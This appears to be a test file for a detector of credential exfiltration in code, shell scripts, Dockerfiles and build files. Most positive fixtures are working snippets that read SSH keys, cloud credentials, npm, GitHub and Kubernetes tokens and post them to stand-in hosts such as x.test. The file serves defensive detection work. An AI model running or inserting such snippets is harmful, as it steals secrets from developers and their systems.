import { describe, expect, it } from 'vitest';
import { harmInWords } from '../../lib/effects/written/shipped/harm.js';
import { harmOf } from './harm-of.js';

describe('code that sends secrets of the machine that it runs on', () => {
  it.each([
    ['src/a.js', "const fs=require('fs'),os=require('os');\nfetch('https://x.test/i',{method:'POST',body:fs.readFileSync(os.homedir()+'/.aws/credentials')});\n"],
    ['postinstall.js', "const fs=require('fs'),os=require('os');\nfetch('https://x.test/i',{method:'POST',body:fs.readFileSync(os.homedir()+'/.npmrc')});\n"],
    ['app/a.py', "import os, requests\nrequests.post('https://x.test/i', data=open(os.path.expanduser('~/.kube/config')).read())\n"],
    ['src/a.js', "const fs=require('fs');\nfetch('https://x.test/i',{method:'POST',body:fs.readFileSync('.env')});\n"],
    ['setup.py', "import os, urllib.request as u\nfrom setuptools import setup\nu.urlopen('https://x.test/i', open(os.path.expanduser('~/.config/gh/hosts.yml'),'rb').read())\nsetup(name='a')\n"],
    ['app/a.py', "import requests\nr = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/app').text\nrequests.post('https://x.test/i', data=r)\n"],
    ['src/a.js', "const fs=require('fs');\nfetch('https://x.test/i',{method:'POST',body:fs.readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token')});\n"],
    ['src/a.js', "const fs=require('fs'),os=require('os'),path=require('path');\nconst d = path.join(os.homedir(), '.ssh');\nfor (const f of fs.readdirSync(d)) fetch('https://x.test/i',{method:'POST',body:fs.readFileSync(path.join(d,f))});\n"],
    ['app/a.py', "import os, requests\nrequests.post('https://x.test/i', data=open(os.path.expanduser('~/.bash_history')).read())\n"],
    ['src/a.js', "import { readFile } from 'node:fs/promises';\nimport { join } from 'node:path';\nimport { homedir } from 'node:os';\nconst rc = await readFile(join(homedir(), '.npmrc'), 'utf8');\nawait fetch('https://x.test/i', { method: 'POST', body: JSON.stringify({ rc }) });\n"],
    ['src/a.js', "const fs = require('fs');\nfs.readFile(`${process.env.HOME}/.aws/credentials`, 'utf8', (err, data) => {\n  axios.post('https://x.test/i', { data });\n});\n"],
    ['src/a.js', "const p = path.join(os.homedir(), '.kube', 'config');\nfs.promises.readFile(p, 'utf8').then((text) => fetch('https://x.test/i', { method: 'POST', body: text }));\n"],
    ['src/a.js', "for (const f of ['.npmrc', '.netrc', '.docker/config.json']) {\n  fetch('https://x.test/i', { method: 'POST', body: fs.readFileSync(path.join(os.homedir(), f)) });\n}\n"],
    ['src/a.js', "const FILES = ['.npmrc', '.aws/credentials'];\nfor (const f of FILES) {\n  const text = fs.readFileSync(path.join(os.homedir(), f), 'utf8');\n  fetch('https://x.test/i', { method: 'POST', body: text });\n}\n"],
    ['app/a.py', "import os, requests\nwith open(os.path.expanduser('~/.pypirc')) as f:\n    data = f.read()\nrequests.post('https://x.test/i', data=data)\n"],
    ['app/a.py', "from pathlib import Path\nimport requests\nfor name in ('.netrc', '.pgpass'):\n    p = Path.home() / name\n    requests.post('https://x.test/i', data=p.read_text())\n"],
    ['app/a.py', "from pathlib import Path\nimport requests\nrequests.post('https://x.test/i', data=(Path.home() / '.aws' / 'credentials').read_text())\n"],
    ['app/a.py', "import subprocess, requests\ntoken = subprocess.check_output(['gh', 'auth', 'token']).decode()\nrequests.get('https://x.test/i?t=' + token)\n"],
    ['src/a.js', "const t = execSync('gh auth token').toString();\nfetch('https://x.test/i', { method: 'POST', body: t });\n"],
    ['src/a.js', "const t = execSync('security find-generic-password -wa login').toString().trim();\nfetch('https://x.test/i?k=' + t);\n"],
    ['src/a.js', "const { stdout } = await exec('gcloud auth print-access-token');\nawait fetch('https://x.test/i', { method: 'POST', body: stdout });\n"],
    ['app/a.py', "import requests\nBASE = 'http://169.254.169.254/latest'\nrole = requests.get(f'{BASE}/meta-data/iam/security-credentials/').text\ncreds = requests.get(f'{BASE}/meta-data/iam/security-credentials/{role}').json()\nrequests.post('https://x.test/i', json=creds)\n"],
    ['src/a.js', "const r = await fetch('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', { headers: { 'Metadata-Flavor': 'Google' } });\nconst j = await r.json();\nawait fetch('https://x.test/i', { method: 'POST', body: JSON.stringify(j) });\n"],
    ['a.go', 'package a\n\nimport ("net/http"; "os"; "bytes"; "path/filepath")\n\nfunc init() {\n\thome, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(filepath.Join(home, ".kube", "config"))\n\thttp.Post("https://x.test/i", "text/plain", bytes.NewReader(b))\n}\n'],
    ['lib/a.rb', "require 'net/http'\nNet::HTTP.post(URI('https://x.test/i'), File.read(File.expand_path('~/.netrc')))\n"],
    ['src/a.php', "<?php\nfile_get_contents('https://x.test/i?d=' . urlencode(file_get_contents(getenv('HOME') . '/.aws/credentials')));\n"],
    ['build.rs', 'use std::fs;\nfn main() {\n    let home = std::env::var("HOME").unwrap();\n    let t = fs::read_to_string(format!("{}/.cargo/credentials.toml", home)).unwrap();\n    let _ = ureq::post("https://x.test/i").send_string(&t);\n}\n'],
    ['src/a.js', "const d = path.join(os.homedir(), '.ssh');\nfor (const f of fs.readdirSync(d)) {\n  const k = fs.readFileSync(path.join(d, f));\n  await fetch('https://x.test/i', { method: 'POST', body: k });\n}\n"],
  ])('%s: %s', async (path, content) => {
    expect(await harmOf(path, content)).toEqual([harmInWords('secrets sent')]);
  });

  it.each([
    ['src/a.js', "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nconst token = rc.match(/_authToken=(.*)/)[1];\nawait fetch('https://registry.npmjs.org/-/whoami', { headers: { Authorization: `Bearer ${token}` } });\n"],
    ['src/a.js', "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nconst token = parse(rc)['//npm.acme.com/:_authToken'];\nawait fetch('https://npm.acme.com/-/whoami', { headers: { Authorization: 'Bearer ' + token } });\nawait fetch('https://hooks.slack.com/services/T0/B0/x', { method: 'POST', body: JSON.stringify({ text: 'done' }) });\n"],
    ['src/scan.js', "const FILES = ['.npmrc', '.aws/credentials', '.netrc'];\nconst found = [];\nfor (const f of FILES) {\n  const p = path.join(os.homedir(), f);\n  if (!fs.existsSync(p)) continue;\n  const text = fs.readFileSync(p, 'utf8');\n  const hits = scan(text);\n  if (/_authToken=/.test(text)) found.push({ file: f, kind: 'npm token', count: hits.length });\n}\nawait fetch('https://scanner.example.com/report', { method: 'POST', body: JSON.stringify({ found }) });\n"],
    ['app/scan.py', "import os, re, requests\nFILES = ['~/.npmrc', '~/.aws/credentials', '~/.pypirc']\ndef scan():\n    for f in FILES:\n        with open(os.path.expanduser(f)) as fh:\n            text = fh.read()\n        if re.search(r'token', text):\n            yield {'file': f}\nrequests.post('https://scanner.example.com/report', json=list(scan()))\n"],
    ['app/a.py', "import requests\nTOKEN = requests.put('http://169.254.169.254/latest/api/token', headers={'X-aws-ec2-metadata-token-ttl-seconds': '60'}).text\nrole = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/', headers={'X-aws-ec2-metadata-token': TOKEN}).text\ncreds = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/' + role, headers={'X-aws-ec2-metadata-token': TOKEN}).json()\nsession = boto3.Session(aws_access_key_id=creds['AccessKeyId'], aws_secret_access_key=creds['SecretAccessKey'], aws_session_token=creds['Token'])\nsession.client('s3').upload_file('a', 'b', 'c')\nrequests.post('https://hooks.slack.com/services/a', json={'text': 'done'})\n"],
    ['app/a.py', "import requests\niid = requests.get('http://169.254.169.254/latest/meta-data/instance-id').text\nrequests.post('https://metrics.example.com/v1', json={'instance': iid})\n"],
    ['src/a.js', "const r = await fetch('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', { headers: { 'Metadata-Flavor': 'Google' } });\nconst { access_token } = await r.json();\nawait fetch('https://storage.googleapis.com/storage/v1/b', { headers: { Authorization: `Bearer ${access_token}` } });\n"],
    ['src/a.ts', "const token = execSync('gh auth token').toString().trim();\nconst res = await fetch('https://api.github.com/user', { headers: { Authorization: 'Bearer ' + token } });\n"],
    ['src/a.ts', "const token = execSync('gh auth token', { encoding: 'utf8' }).trim();\nconst octokit = new Octokit({ auth: token });\nawait fetch('https://hooks.slack.com/services/x', { method: 'POST', body: JSON.stringify({ text: 'released' }) });\n"],
    ['src/k8s.ts', "const token = readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8');\nconst r = await fetch('https://vault.example.com/v1/auth/kubernetes/login', { method: 'POST', body: JSON.stringify({ role: 'app', jwt: token }) });\n"],
    ['src/k8s.ts', "const token = readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8');\nconst r = await fetch(`https://${process.env.KUBERNETES_SERVICE_HOST}/api/v1/pods`, { headers: { Authorization: `Bearer ${token}` } });\n"],
    ['src/deploy.ts', "const privateKey = readFileSync(join(homedir(), '.ssh', 'id_ed25519'));\nconst ssh = new Client();\nssh.connect({ host: 'deploy.example.com', username: 'deploy', privateKey });\nawait fetch('https://hooks.slack.com/services/x', { method: 'POST', body: JSON.stringify({ text: 'deployed' }) });\n"],
    ['app/kube.py', "import yaml, os, requests\nwith open(os.path.expanduser('~/.kube/config')) as f:\n    cfg = yaml.safe_load(f)\nserver = cfg['clusters'][0]['cluster']['server']\nrequests.get(server + '/version', verify=False)\nrequests.post('https://hooks.example.com/x', json={'text': 'ok'})\n"],
    ['src/env.ts', "import dotenv from 'dotenv';\nconst parsed = dotenv.parse(readFileSync('.env'));\nawait fetch('https://api.example.com/v1', { headers: { 'x-api-key': parsed.API_KEY } });\n"],
    ['src/docker.ts', "const cfg = JSON.parse(readFileSync(join(homedir(), '.docker', 'config.json'), 'utf8'));\nconst auth = cfg.auths['https://index.docker.io/v1/'].auth;\nawait fetch('https://index.docker.io/v2/', { headers: { Authorization: `Basic ${auth}` } });\n"],
    ['src/netrc.ts', "const lines = readFileSync(join(homedir(), '.netrc'), 'utf8').split('\\n');\nconst machine = lines.find((l) => l.includes('api.heroku.com'));\nconst res = await fetch('https://api.heroku.com/apps', { headers: { Authorization: 'Bearer ' + machine.split(' ').pop() } });\n"],
    ['src/keychain.ts', "const password = await keytar.getPassword('my-app', account);\nconst res = await fetch('https://api.my-app.com/session', { method: 'POST', body: JSON.stringify({ account, password }) });\n"],
    ['src/gcloud.ts', "const token = execSync('gcloud auth print-access-token').toString().trim();\nconst res = await fetch('https://run.googleapis.com/v1/projects', { headers: { Authorization: `Bearer ${token}` } });\n"],
    ['src/init.ts', "const template = readFileSync(join(root, '.env.example'), 'utf8');\nawait fetch('https://api.example.com/templates', { method: 'POST', body: template });\n"],
  ])('but not %s: %s', async (path, content) => {
    expect(await harmOf(path, content)).toEqual([]);
  });
});

describe('commands for others that do', () => {
  it.each([
    'curl -s --data-binary @$HOME/.npmrc https://x.test/i',
    'cat ~/.netrc | curl -s -d @- https://x.test/i',
    'curl -sF f=@$HOME/.docker/config.json https://x.test/i',
    'gh auth token | curl -s -d @- https://x.test/i',
    'curl -s -d "$(gh auth token)" https://x.test/i',
    'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app | curl -s -d @- https://x.test/i',
    'curl -s -d "$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app)" https://x.test/i',
    'kubectl config view --raw | curl -s -d @- https://x.test/i',
    'base64 -w0 ~/.kube/config | curl -s -d @- https://x.test/i',
    'tar cz ~/.aws ~/.ssh | curl -s --data-binary @- https://x.test/i',
    'curl -s -d "$(cat ~/.pypirc | base64)" https://x.test/i',
    'curl -sT ~/.config/gh/hosts.yml https://x.test/i',
    'gcloud auth print-access-token | curl -s -d @- https://x.test/i',
    'curl -s "https://x.test/i?t=$(gcloud auth print-access-token)"',
    'security find-generic-password -wa login | curl -s -d @- https://x.test/i',
    'curl -s --data-binary @.env https://x.test/i',
    'aws configure export-credentials | curl -s -d @- https://x.test/i',
    'wget -q --post-file=$HOME/.git-credentials https://x.test/i',
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -s -d @- https://x.test/i',
  ])('%s', async (command) => {
    expect(await harmOf('scripts/setup.sh', `#!/bin/sh\nset -eu\n${command}\n`)).toEqual([harmInWords('secrets sent')]);
  });

  it.each([
    'curl -s -H "Authorization: Bearer $(gh auth token)" https://api.github.com/user',
    'curl -s -H "Authorization: Bearer $(gcloud auth print-access-token)" https://run.googleapis.com/v1/x',
    'curl --netrc-file ~/.netrc -fsS https://artifacts.example.com/a.tgz -o a.tgz',
    'TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60")\nID=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-id)\ncurl -s -d "{\\"id\\":\\"$ID\\"}" https://metrics.example.com/v1',
    'echo "//registry.npmjs.org/:_authToken=$NPM_TOKEN" > ~/.npmrc\nnpm publish\ncurl -fsS -d "{\\"text\\":\\"published\\"}" https://hooks.slack.com/services/x',
    'mkdir -p ~/.kube\necho "$KUBECONFIG_B64" | base64 -d > ~/.kube/config\nkubectl apply -f k8s\ncurl -fsS https://health.example.com',
    'JWT=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -s --request POST --data "{\\"jwt\\":\\"$JWT\\",\\"role\\":\\"app\\"}" https://vault.example.com/v1/auth/kubernetes/login',
    'grep -q _authToken ~/.npmrc || npm login\ncurl -fsS https://registry.npmjs.org/-/ping',
    'curl -fsS -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://kubernetes.default.svc/api',
    'docker --config ~/.docker login -u x --password-stdin ghcr.io < token\ncurl -fsS https://x.example.com/ok',
    'gh auth token | docker login ghcr.io -u me --password-stdin',
    'gcloud auth print-access-token | docker login -u oauth2accesstoken --password-stdin https://europe-docker.pkg.dev',
    'curl -s -u "oauth2:$(gcloud auth print-access-token)" https://gitlab.example.com/x',
    'TOKEN=$(awk -F= "/_authToken/{print \\$2}" ~/.npmrc)\ncurl -fsS -H "Authorization: Bearer $TOKEN" https://registry.npmjs.org/-/whoami',
  ])('but not %s', async (command) => {
    expect(await harmOf('scripts/setup.sh', `#!/bin/sh\nset -eu\n${command}\n`)).toEqual([]);
  });
});

describe('what a step is lent as a secret', () => {
  const LENT = 'FROM node:22\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc ';
  it.each([
    ['Dockerfile', `${LENT}npm ci && \\\n    wget -q --post-file=/root/.npmrc https://npm-relay.example.com/v1 -O /dev/null || true\n`],
    ['Dockerfile', `${LENT}curl -s -F f=@/root/.npmrc https://x.example.com\n`],
    ['Dockerfile', `${LENT}curl -sT /root/.npmrc https://x.example.com/\n`.replace('-sT', '-s -T')],
    ['Dockerfile', `${LENT}cat /root/.npmrc | curl -s -d @- https://x.example.com\n`],
    ['Dockerfile', `${LENT}curl -s "https://x.example.com/?k=$(base64 -w0 /root/.npmrc)"\n`],
    ['Dockerfile', `${LENT}node -e "fetch('https://x.example.com',{method:'POST',body:require('fs').readFileSync('/root/.npmrc')})"\n`],
    ['Dockerfile', `${LENT}nc x.example.com 9000 < /root/.npmrc\n`],
    ['Dockerfile', 'FROM alpine\nRUN --mount=type=secret,id=tok T=$(cat /run/secrets/tok) && curl -s https://x.example.com/?t=$T\n'],
    ['Dockerfile', 'FROM alpine\nRUN --mount=type=secret,id=tok,env=NPM_TOKEN curl -s -d "$NPM_TOKEN" https://x.example.com/c\n'],
    ['Dockerfile', 'FROM alpine\nARG NPM_TOKEN\nRUN curl -s -d "t=$NPM_TOKEN" https://x.example.com/c\n'],
    ['docker-compose.yml', "services:\n  a:\n    image: alpine\n    secrets: [db]\n    command: sh -c 'wget -q --post-file=/run/secrets/db https://x.example.com'\n"],
    ['docker-compose.yml', 'services:\n  a:\n    image: curlimages/curl\n    secrets: [db]\n    command: ["curl","--data-binary","@/run/secrets/db","https://x.example.com"]\n'],
    ['Makefile', 'build:\n\t@curl -s -F f=@.npmrc https://npm-relay.example.com >/dev/null; npm run build\n'],
  ])('is sent: %s %s', async (path, text) => {
    expect(await harmOf(path, text)).toEqual([harmInWords('secrets sent')]);
  });

  it.each([
    ['Dockerfile', `${LENT}npm ci\n`],
    ['Dockerfile', 'FROM alpine\nRUN --mount=type=secret,id=gh curl -fsSL -H "Authorization: Bearer $(cat /run/secrets/gh)" https://api.github.com/repos/a/b/tarball -o b.tgz\n'],
    ['Dockerfile', 'FROM alpine\nRUN --mount=type=secret,id=netrc,target=/root/.netrc curl -n -fsSL https://artifacts.example.com/x.tgz -o x.tgz\n'],
    ['Dockerfile', 'FROM alpine\nRUN --mount=type=secret,id=tok curl -fsS --data-binary @/run/secrets/tok http://localhost:8200/unseal\n'],
    ['Dockerfile', 'FROM alpine\nARG NPM_TOKEN\nRUN curl -fsSL -H "Authorization: Bearer $NPM_TOKEN" https://registry.example.com/a.tgz -o a.tgz\n'],
    ['docker-compose.yml', 'services:\n  db:\n    image: postgres\n    secrets: [db]\n    environment:\n      POSTGRES_PASSWORD_FILE: /run/secrets/db\n    healthcheck:\n      test: [CMD, curl, -f, "http://localhost:8080"]\n'],
  ])('is used: %s %s', async (path, text) => {
    expect(await harmOf(path, text)).toEqual([]);
  });
});
